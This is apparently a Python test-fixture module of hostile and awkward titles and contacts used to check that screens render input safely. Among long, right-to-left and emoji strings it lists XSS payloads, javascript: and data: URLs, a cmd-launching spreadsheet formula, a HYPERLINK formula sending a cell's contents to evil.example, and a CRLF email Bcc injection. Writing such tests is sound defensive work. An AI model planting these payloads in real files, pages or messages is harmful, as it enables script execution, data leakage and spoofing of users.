"""Titles and contacts that break careless screens: too long, right to left, joined emoji, and attempts to run."""

from __future__ import annotations

LONGEST = 10_000

ODD_TITLES: tuple[str | None, ...] = (
    "<script>alert('title')</script>",
    "=cmd|' /C calc'!A1",
    "{{7*7}} ${7*7} #{7*7}",
    "[monthly figures](javascript:alert(1)) **bold** `code`",
    "<img src=x onerror=alert(1)>",
    "لوحة متابعة الطلب الأسبوعي",
    "תחזית ביקוש \u202eמתהפך",
    "👩🏽‍🔬👨‍👩‍👧‍👦 Lab family dashboard 🏳️‍🌈",
    "Ze\u0301ro-de\u0301faut  Z͑ͫ̓ͪ̂ͫ̽͏a̴̙l͖g͔o",
    '=HYPERLINK("https://evil.example/?x="&A1,"Open report")',
    "需求预测（华东）",
    "+1-555 @SUM(A1:A9)",
    "Half\x00 a title",
    "Quarterly review of everything " + "that could possibly matter " * 8,
    ("A very long title. " * (LONGEST // 19 + 1))[:LONGEST],
    None,
    "",
)

ODD_CONTACTS: tuple[tuple[str, str], ...] = (
    ("javascript:alert(document.domain)", "javascript:alert(1)"),
    ("Data page", "data:text/html,<script>alert(1)</script>"),
    ("Elsewhere", "https://evil.example/phish"),
    ("\u202egnihsihP", "a@b.example\r\nBcc: everyone@nordvik.example"),
)
